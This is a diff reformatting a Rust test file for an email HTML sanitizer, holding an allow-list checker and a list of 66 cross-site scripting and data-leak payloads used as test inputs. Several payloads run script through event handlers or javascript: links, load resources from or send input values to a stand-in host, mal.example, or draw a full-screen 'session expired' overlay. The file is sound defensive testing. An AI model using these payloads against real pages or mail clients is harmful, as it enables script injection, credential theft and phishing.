@@ -3,8 +3,10 @@ use centralita::mail::{ReadLimits, SafeHtml, SafeHtmlError, safe_html};
 use proptest::prelude::*;
 
 fn message(html: &str) -> Vec<u8> {
-    format!("From: a@b.example\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}")
-        .into_bytes()
+    format!(
+        "From: a@b.example\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}"
+    )
+    .into_bytes()
 }
 
 fn safe(html: &str) -> SafeHtml {
@@ -13,8 +15,7 @@ fn safe(html: &str) -> SafeHtml {
 
 /// The elements and attributes that may stand in a page of ours.
 const ELEMENTS: &str = " a abbr b big blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr u ul ";
-const ATTRIBUTES: &str =
-    " href rel target dir lang title style align start type colspan rowspan valign span src alt width height ";
+const ATTRIBUTES: &str = " href rel target dir lang title style align start type colspan rowspan valign span src alt width height ";
 
 /// Reads what was made as strictly as it is written: every tag known, every attribute known and
 /// in quotes, nothing that runs, loads or moves.
@@ -24,25 +25,45 @@ fn check_safe(input: &str, html: &str) {
         assert!(!text.contains('\0'), "{input} → {html}");
         let (tag, tail) = after.split_once('>').unwrap_or_else(|| panic!("{input} → {html}"));
         rest = tail;
-        let (name, mut attributes) = tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
+        let (name, mut attributes) = tag
+            .trim_start_matches('/')
+            .split_once(' ')
+            .unwrap_or((tag.trim_start_matches('/'), ""));
         assert!(ELEMENTS.contains(&format!(" {name} ")), "<{name}>: {input} → {html}");
         while !attributes.trim().is_empty() {
-            let (attribute, after) = attributes.trim_start().split_once("=\"").unwrap_or_else(|| panic!("{input} → {html}"));
+            let (attribute, after) = attributes
+                .trim_start()
+                .split_once("=\"")
+                .unwrap_or_else(|| panic!("{input} → {html}"));
             let (value, tail) = after.split_once('"').unwrap();
             attributes = tail;
-            assert!(ATTRIBUTES.contains(&format!(" {attribute} ")), "{attribute}: {input} → {html}");
+            assert!(
+                ATTRIBUTES.contains(&format!(" {attribute} ")),
+                "{attribute}: {input} → {html}"
+            );
             let lower = value.to_lowercase();
             match attribute {
                 "href" => assert!(
-                    ["http:", "https:", "mailto:", "tel:", "ftp:"].iter().any(|s| lower.trim().starts_with(s)),
+                    ["http:", "https:", "mailto:", "tel:", "ftp:"]
+                        .iter()
+                        .any(|s| lower.trim().starts_with(s)),
                     "{value}: {input}"
                 ),
                 "src" => assert!(lower.starts_with("/bild/"), "{value}: {input}"),
                 "style" => assert!(
                     lower.split(';').all(|d| {
                         let name = d.split(':').next().unwrap_or_default().trim();
-                        ["", "text-align", "font-weight", "font-style", "text-decoration", "vertical-align"].contains(&name)
-                    }) && !lower.contains("url") && !lower.contains("expression"),
+                        [
+                            "",
+                            "text-align",
+                            "font-weight",
+                            "font-style",
+                            "text-decoration",
+                            "vertical-align",
+                        ]
+                        .contains(&name)
+                    }) && !lower.contains("url")
+                        && !lower.contains("expression"),
                     "{value}: {input}"
                 ),
                 _ => {}
@@ -56,9 +77,14 @@ fn check_safe(input: &str, html: &str) {
 
 /// Each contains something that would run, load, cover the page or leave it.
 const ATTACKS: [&str; 66] = [
-    "<script>PWN()</script>", "<ScRiPt>PWN()</sCrIpT>", "<script/x>PWN()</script>",
-    "<scr<script>ipt>PWN()</scr</script>ipt>", "<img src=x onerror=PWN()>",
-    "<img\tsrc=x\x0conerror\n=PWN()>", "<img src=`x` onerror=PWN()>", "<svg onload=PWN()>",
+    "<script>PWN()</script>",
+    "<ScRiPt>PWN()</sCrIpT>",
+    "<script/x>PWN()</script>",
+    "<scr<script>ipt>PWN()</scr</script>ipt>",
+    "<img src=x onerror=PWN()>",
+    "<img\tsrc=x\x0conerror\n=PWN()>",
+    "<img src=`x` onerror=PWN()>",
+    "<svg onload=PWN()>",
     "<svg><animate attributeName=href values=javascript:PWN() /><a><text>x</text></a></svg>",
     "<svg><use href='data:image/svg+xml,<svg id=x onload=PWN()>#x'/></svg>",
     "<svg><foreignObject><iframe onload=PWN()></iframe></foreignObject></svg>",
@@ -68,16 +94,24 @@ const ATTACKS: [&str; 66] = [
     "<noscript><p title=\"</noscript><img src=x onerror=PWN()>\">",
     "<template><img src=x onerror=PWN()></template>",
     "<svg></p><title><a id='</title><img src=x onerror=PWN()>'>",
-    "<!--><img src=x onerror=PWN()>-->", "<svg><![CDATA[><img src=x onerror=PWN()>]]>",
+    "<!--><img src=x onerror=PWN()>-->",
+    "<svg><![CDATA[><img src=x onerror=PWN()>]]>",
     "<!--[if gte IE 4]><script>PWN()</script><![endif]-->",
-    "<xmp><p title='</xmp><img src=x onerror=PWN()>'>", "<a href='javascript:PWN()'>x</a>",
-    "<a href='&#106;&#x61;vascript&colon;PWN()'>x</a>", "<a href='java\tscript:PWN()'>x</a>",
-    "<a href='\u{1}javascript:PWN()'>x</a>", "<a href='vbscript:PWN()'>x</a>",
-    "<a href='data:text/html,<script>PWN()</script>'>x</a>", "<a href='cid:x'>x</a>",
-    "<a href='//mal.example/'>x</a>", "<a href='/api/v1/tickets'>x</a>",
+    "<xmp><p title='</xmp><img src=x onerror=PWN()>'>",
+    "<a href='javascript:PWN()'>x</a>",
+    "<a href='&#106;&#x61;vascript&colon;PWN()'>x</a>",
+    "<a href='java\tscript:PWN()'>x</a>",
+    "<a href='\u{1}javascript:PWN()'>x</a>",
+    "<a href='vbscript:PWN()'>x</a>",
+    "<a href='data:text/html,<script>PWN()</script>'>x</a>",
+    "<a href='cid:x'>x</a>",
+    "<a href='//mal.example/'>x</a>",
+    "<a href='/api/v1/tickets'>x</a>",
     "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
-    "<iframe srcdoc='<script>PWN()</script>'></iframe>", "<object data='javascript:PWN()'></object>",
-    "<embed src='javascript:PWN()'>", "<meta http-equiv=refresh content='0;url=javascript:PWN()'>",
+    "<iframe srcdoc='<script>PWN()</script>'></iframe>",
+    "<object data='javascript:PWN()'></object>",
+    "<embed src='javascript:PWN()'>",
+    "<meta http-equiv=refresh content='0;url=javascript:PWN()'>",
     "<base href='http://mal.example/'><a href=x>x</a>",
     "<link rel=stylesheet href='http://mal.example/x.css'>",
     "<style>@import 'http://mal.example/x.css';</style>",
@@ -86,17 +120,28 @@ const ATTACKS: [&str; 66] = [
     "<div style='position:fixed;inset:0;z-index:99999'>Sesión caducada</div>",
     "<style>input[value^='1']{background:url(http://mal.example/1)}</style>",
     "<form action='http://mal.example/p'><input name=pin autofocus onfocus=PWN()></form>",
-    "<button form=x formaction=javascript:PWN()>x</button>", "<details open ontoggle=PWN()>x</details>",
-    "<marquee onstart=PWN()>x</marquee>", "<video poster='javascript:PWN()' onloadstart=PWN()></video>",
-    "<body onload=PWN() onpageshow=PWN()>", "<input type=image src=x onerror=PWN()>",
-    "<img src='http://mal.example/?", "<form id=csrf><input name=token></form><a id=config name=url>x</a>",
+    "<button form=x formaction=javascript:PWN()>x</button>",
+    "<details open ontoggle=PWN()>x</details>",
+    "<marquee onstart=PWN()>x</marquee>",
+    "<video poster='javascript:PWN()' onloadstart=PWN()></video>",
+    "<body onload=PWN() onpageshow=PWN()>",
+    "<input type=image src=x onerror=PWN()>",
+    "<img src='http://mal.example/?",
+    "<form id=csrf><input name=token></form><a id=config name=url>x</a>",
     "<a href='http://mal.example/' target=_self ping='http://mal.example/p'>x</a>",
-    "<img src='http://mal.example/pixel.gif'>", "<img srcset='http://mal.example/a 1x'>",
-    "<table background='http://mal.example/b'><tr><td>x", "<img src='file:///etc/passwd'>",
-    "<img src='\\\\mal.example\\x.png'>", "<scr\0ipt>PWN()</scr\0ipt>", "<img src=x onerror=PWN() ",
-    "<img src=x onerror=1 onerror=PWN()>", "<p title='\"><img src=x onerror=PWN()>'>x</p>",
-    "<a href=\"https://a.example/&quot; onclick=&quot;PWN()\">x</a>", "<textarea><img src=x onerror=PWN()>",
-    "<plaintext><img src=x onerror=PWN()>", "<p style=\"text-align:center\\3b position:fixed\">x</p>",
+    "<img src='http://mal.example/pixel.gif'>",
+    "<img srcset='http://mal.example/a 1x'>",
+    "<table background='http://mal.example/b'><tr><td>x",
+    "<img src='file:///etc/passwd'>",
+    "<img src='\\\\mal.example\\x.png'>",
+    "<scr\0ipt>PWN()</scr\0ipt>",
+    "<img src=x onerror=PWN() ",
+    "<img src=x onerror=1 onerror=PWN()>",
+    "<p title='\"><img src=x onerror=PWN()>'>x</p>",
+    "<a href=\"https://a.example/&quot; onclick=&quot;PWN()\">x</a>",
+    "<textarea><img src=x onerror=PWN()>",
+    "<plaintext><img src=x onerror=PWN()>",
+    "<p style=\"text-align:center\\3b position:fixed\">x</p>",
     "<img src='cid:none@x' onload=PWN()>",
 ];
 
@@ -124,7 +169,11 @@ fn what_people_write_stays() {
          <table><tbody><tr><td colspan=\"2\">CPD</td></tr></tbody></table><ol start=\"3\"><li>uno</li></ol><blockquote>cita</blockquote>"
     );
     let link = safe("<a href='https://a.example/?a=1&amp;b=2'>ver</a>").html;
-    assert!(link.contains("href=\"https://a.example/?a=1&amp;b=2\"") && link.contains("target=\"_blank\""), "{link}");
+    assert!(
+        link.contains("href=\"https://a.example/?a=1&amp;b=2\"")
+            && link.contains("target=\"_blank\""),
+        "{link}"
+    );
 }
 
 #[test]
